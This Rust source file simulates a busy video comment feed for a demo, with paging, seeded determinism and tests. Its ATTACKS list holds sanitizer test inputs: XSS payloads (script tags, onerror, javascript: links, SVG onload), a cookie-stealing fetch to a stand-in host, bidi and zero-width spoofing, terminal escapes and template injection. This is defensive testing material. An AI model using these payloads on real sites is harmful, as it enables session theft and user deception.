//! The demo source: a built-in simulator of a busy video's comment section.
//!
//! It answers the poller the way a platform API does — newest first, in pages
//! with a cursor, with stable ids — so the demo exercises the same paging,
//! dedupe, sanitizing and logging path as a real source. Its comments mix
//! languages, emoji, replies, Super Chats, long posts and a steady share of
//! attacks (script tags, `onerror` images, `javascript:` links, bidi and
//! zero-width spoofing, huge strings) that must come out of the sanitizer
//! inert.
//!
//! Comment `k` is a pure function of the seed and `k`; only how many comments
//! are visible depends on the clock. With a fixed seed a restart therefore
//! serves the same comments again, which is what a real platform does.

use std::time::{Duration, Instant};

use chrono::{DateTime, Utc};
use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};

use super::{BoxFuture, Page, PolledSource, Source, SourceError};
use crate::domain::{RawAmount, RawComment, Schedule, SourceSpec};

/// Comments already there when the demo starts.
pub const BACKLOG: u64 = 20;
/// Comments per page, like a platform's `maxResults`.
pub const PAGE_SIZE: u64 = 20;

/// The simulator's settings: `CW_DEMO_RATE`, `CW_DEMO_SEED`.
#[derive(Debug, Clone, PartialEq)]
pub struct DemoSettings {
    /// New comments per minute; 0 for only the starting backlog.
    pub rate_per_min: f64,
    /// A fixed seed posts the same comments every run.
    pub seed: Option<u64>,
}

impl Source for DemoSource {
    fn name(&self) -> String {
        SourceSpec::Demo.to_string()
    }
}

impl PolledSource for DemoSource {
    /// The simulator costs nothing to ask, so it polls often enough to look
    /// like a live chat.
    fn default_schedule(&self) -> Schedule {
        Schedule::Every(Duration::from_secs(2))
    }

    fn fetch_page<'a>(
        &'a self,
        cursor: Option<&'a str>,
    ) -> BoxFuture<'a, Result<Page, SourceError>> {
        Box::pin(std::future::ready(DemoSource::fetch_page(self, cursor)))
    }
}

pub struct DemoSource {
    seed: u64,
    started: Instant,
    started_at: DateTime<Utc>,
    /// Time between two new comments; `None` when the rate is 0.
    interval: Option<Duration>,
}

impl DemoSource {
    pub fn new(rate_per_min: f64, seed: Option<u64>) -> DemoSource {
        let interval = (rate_per_min > 0.0).then(|| Duration::from_secs_f64(60.0 / rate_per_min));
        DemoSource {
            seed: seed.unwrap_or_else(rand::random),
            started: Instant::now(),
            started_at: Utc::now(),
            interval,
        }
    }

    /// How many comments exist now.
    fn visible(&self) -> u64 {
        let live = match self.interval {
            Some(iv) => (self.started.elapsed().as_secs_f64() / iv.as_secs_f64()) as u64,
            None => 0,
        };
        BACKLOG + live
    }

    /// The cursor is the index of the newest comment on the page it names,
    /// so pages stay put while new comments arrive, as with real page tokens.
    pub fn fetch_page(&self, cursor: Option<&str>) -> Result<Page, SourceError> {
        let visible = self.visible();
        let top = match cursor {
            None => visible,
            Some(c) => c
                .strip_prefix("k")
                .and_then(|n| n.parse::<u64>().ok())
                .filter(|n| *n <= visible)
                .ok_or_else(|| SourceError::transient(format!("invalid page token {c:?}")))?,
        };
        let bottom = top.saturating_sub(PAGE_SIZE);
        let comments = (bottom..top).rev().map(|k| self.comment(k)).collect();
        let next = (bottom > 0).then(|| format!("k{bottom}"));
        Ok(Page {
            comments,
            next,
            ..Page::default()
        })
    }

    /// When comment `k` was posted.
    fn posted_at(&self, k: u64) -> DateTime<Utc> {
        if k < BACKLOG {
            // The backlog is spread over the quarter hour before the start.
            let ago = (BACKLOG - k) as i64 * 45;
            self.started_at - chrono::Duration::seconds(ago)
        } else {
            let iv = self.interval.unwrap_or_default();
            let after = iv.mul_f64((k - BACKLOG + 1) as f64);
            self.started_at + chrono::Duration::from_std(after).unwrap_or_default()
        }
    }

    /// Comment `k`, the same for the same seed every time.
    fn comment(&self, k: u64) -> RawComment {
        let mut rng = StdRng::seed_from_u64(self.seed ^ k.wrapping_mul(0x9E37_79B9_7F4A_7C15));
        let (name, author_id) = *AUTHORS.choose(&mut rng).expect("authors");
        let mut c = RawComment {
            id: self.id(k),
            author_name: name.to_owned(),
            author_id: author_id.to_owned(),
            published_at: Some(self.posted_at(k)),
            likes: if rng.random_bool(0.3) {
                rng.random_range(1..200)
            } else {
                0
            },
            ..RawComment::default()
        };
        let roll: f64 = rng.random();
        if roll < 0.12 {
            let attack = ATTACKS.choose(&mut rng).expect("attacks");
            c.text = attack.text();
            c.html = attack.html();
            if let Attack::Name(name) = attack {
                c.author_name = (*name).to_owned();
            }
            if let Attack::Avatar(url) = attack {
                c.author_avatar = Some((*url).to_owned());
            }
        } else if roll < 0.15 {
            c.text = LONG.to_owned();
        } else if roll < 0.19 {
            let (display, micros, currency) = *SUPER_CHATS.choose(&mut rng).expect("amounts");
            c.amount = Some(RawAmount {
                display: display.to_owned(),
                micros,
                currency: currency.to_owned(),
            });
            c.text = THANKS.choose(&mut rng).expect("thanks").to_string();
        } else {
            c.text = CHATTER.choose(&mut rng).expect("chatter").to_string();
        }
        if k > 3 && rng.random_bool(0.15) {
            c.reply_to = Some(self.id(k - rng.random_range(1..=3.min(k))));
        }
        c
    }

    fn id(&self, k: u64) -> String {
        format!("demo-{:08x}-{k}", self.seed as u32)
    }
}

/// A hostile comment: what it attacks decides which field carries it.
enum Attack {
    /// Typed as text; a plain-text platform sends it as is.
    Text(&'static str),
    /// Markup that a careless platform passed through as HTML.
    Html(&'static str),
    /// An author name built to impersonate or to break out of markup.
    Name(&'static str),
    /// An avatar URL that is not an image on the platform's host.
    Avatar(&'static str),
}

impl Attack {
    fn text(&self) -> String {
        match self {
            Attack::Text(t) | Attack::Html(t) => (*t).to_owned(),
            Attack::Name(_) => "first!".to_owned(),
            Attack::Avatar(_) => "look at my new profile picture".to_owned(),
        }
    }

    fn html(&self) -> Option<String> {
        match self {
            Attack::Html(t) => Some((*t).to_owned()),
            _ => None,
        }
    }
}

const ATTACKS: &[Attack] = &[
    Attack::Text("<script>alert('pwned')</script>"),
    Attack::Html("<script>fetch('https://evil.invalid/?c='+document.cookie)</script>nice stream"),
    Attack::Html("<img src=x onerror=\"alert('xss')\">"),
    Attack::Text("<img src=x onerror=alert(document.domain)>"),
    Attack::Html("<a href=\"javascript:alert(1)\">free skins here</a>"),
    Attack::Html("<a href=\"jav&#x09;ascript:alert('XSS');\">click me</a>"),
    Attack::Html("\"><svg/onload=alert(1)>"),
    Attack::Html("<iframe src=\"javascript:alert(1)\"></iframe>hello"),
    Attack::Html(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    Attack::Html("<b style=\"background:url(javascript:alert(1))\">bold move</b>"),
    Attack::Text("{{constructor.constructor('alert(1)')()}} ${alert(1)}"),
    Attack::Text("my file: \u{202E}gnp.exe"),
    Attack::Text("\u{202D}\u{202E}unterminated override at the end"),
    Attack::Text("ad\u{200B}min here: send me your stream key"),
    Attack::Text("\u{1b}[2J\u{1b}]0;owned\u{7}terminal escape"),
    Attack::Name("<b onmouseover=alert(1)>Moderator</b>"),
    Attack::Name("\u{202E}rotaredoM"),
    Attack::Name("Chan\u{200B}nel Owner"),
    Attack::Avatar("javascript:alert(1)"),
    Attack::Avatar("http://tracker.invalid/pixel.png"),
    Attack::Text("Z̷̢̛̩̤͓̬͔̻̪̤̈́̓̿̒͒̑̕͝A̴̧̫̠̜͕͙̟̼̿̈́̈͗̓̕͝L̸̨̡̛̝͈̟̭̭̠̼̈́͊͂̀̅̎̇G̸̡̢̛̤̬̤̞̻̼̀̓̌̿̈͑̕O̶̧̡̪̬͇̣̜̟̓̀̌͂̅̏̚͝"),
    Attack::Text(HUGE),
];

/// A wall of text well past every length cap.
const HUGE: &str = concat!(
    "SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM ",
    "SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM ",
    "SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM ",
    "SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM SPAM ",
    "\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n",
    "🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥",
);

const AUTHORS: &[(&str, &str)] = &[
    ("Mia Chen", "UCdemo-mia"),
    ("@pixelpusher", "UCdemo-pixel"),
    ("Tomás Ortega", "UCdemo-tomas"),
    ("小鱼干", "UCdemo-xiaoyu"),
    ("夜猫子_2024", "UCdemo-yemao"),
    ("さくら", "UCdemo-sakura"),
    ("山田太郎", "UCdemo-yamada"),
    ("Lena Vogel", "UCdemo-lena"),
    ("ProGamer_99", "UCdemo-progamer"),
    ("김민준", "UCdemo-minjun"),
    ("Ahmed", "UCdemo-ahmed"),
    ("night owl 🦉", "UCdemo-owl"),
    ("Priya", "UCdemo-priya"),
    ("CoffeeCat", "UCdemo-coffee"),
    ("弹幕小助手", "UCdemo-danmu"),
    ("Olly", "UCdemo-olly"),
];

const CHATTER: &[&str] = &[
    "first time catching this live, hi everyone 👋",
    "the audio is a bit quiet on my end",
    "what keyboard is that?",
    "LET'S GOOO 🔥🔥🔥",
    "this is exactly what I needed today, thank you",
    "can you explain the last part again?",
    "greetings from São Paulo 🇧🇷",
    "lol the cat just walked across the screen 😂",
    "is there a VOD later?",
    "主播今天状态好好！",
    "这个问题我也遇到过，后来重装就好了",
    "请问用的是什么麦克风？",
    "哈哈哈哈哈笑死我了",
    "前排占座 🪑",
    "今日も配信ありがとうございます！",
    "初見です、よろしくお願いします🙏",
    "それな〜",
    "BGMの曲名を教えてください",
    "안녕하세요! 오늘도 재밌어요",
    "👏👏👏",
    "❤️❤️❤️",
    "GG",
    "W stream",
    "wait, how did you do that so fast?",
    "chat is moving so fast nobody will notice I love pineapple pizza",
    "Docs for this are at https://example.com/docs?page=2&lang=en if anyone needs them",
    "@Mia Chen I had the same question!",
    "does this work on Linux too?",
    "  spaced   out   comment  ",
    "line one\nline two\nline three",
];

const THANKS: &[&str] = &[
    "Thanks for the great stream!",
    "为主播打call！",
    "いつも楽しい配信ありがとう！",
    "keep it up 💪",
];

const SUPER_CHATS: &[(&str, i64, &str)] = &[
    ("$5.00", 5_000_000, "USD"),
    ("$20.00", 20_000_000, "USD"),
    ("¥500", 500_000_000, "JPY"),
    ("€10,00", 10_000_000, "EUR"),
    ("NT$150", 150_000_000, "TWD"),
];

const LONG: &str = "Long-time viewer here. I wanted to write a longer comment because this series \
has genuinely changed how I approach my own projects. When I started watching last year I had \
never shipped anything; since then I have finished two small tools and started contributing to \
an open-source project. The way you talk through mistakes instead of cutting them out of the \
video is the most useful part for me, because that is where the real learning happens.\n\n\
A few questions, if you have time at the end: how do you decide when a feature is done? Do you \
write tests first or after? And what would you tell someone who keeps restarting projects \
instead of finishing them? Thanks again, and greetings from a very rainy afternoon.";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_first_page_is_the_newest_backlog_and_pages_down_to_the_oldest() {
        let demo = DemoSource::new(0.0, Some(7));
        let first = demo.fetch_page(None).unwrap();
        assert_eq!(first.comments.len(), BACKLOG as usize);
        assert_eq!(first.next, None);
        let times: Vec<_> = first.comments.iter().map(|c| c.published_at).collect();
        assert!(times.windows(2).all(|w| w[0] > w[1]), "newest first");
    }

    #[test]
    fn the_same_seed_serves_the_same_comments() {
        let a = DemoSource::new(0.0, Some(42)).fetch_page(None).unwrap();
        let b = DemoSource::new(0.0, Some(42)).fetch_page(None).unwrap();
        let ids = |p: &Page| p.comments.iter().map(|c| c.id.clone()).collect::<Vec<_>>();
        let texts = |p: &Page| {
            p.comments
                .iter()
                .map(|c| c.text.clone())
                .collect::<Vec<_>>()
        };
        assert_eq!(ids(&a), ids(&b));
        assert_eq!(texts(&a), texts(&b));
    }

    #[test]
    fn a_bad_page_token_is_an_error_not_a_panic() {
        let demo = DemoSource::new(0.0, Some(1));
        assert!(demo.fetch_page(Some("k999999")).is_err());
        assert!(demo.fetch_page(Some("garbage")).is_err());
    }

    #[test]
    fn attacks_appear_among_the_comments() {
        let demo = DemoSource::new(0.0, Some(3));
        let hostile = (0..400)
            .map(|k| demo.comment(k))
            .filter(|c| c.text.contains('<') || c.html.is_some() || c.author_name.contains('<'))
            .count();
        assert!(hostile > 10, "only {hostile} hostile comments in 400");
    }
}
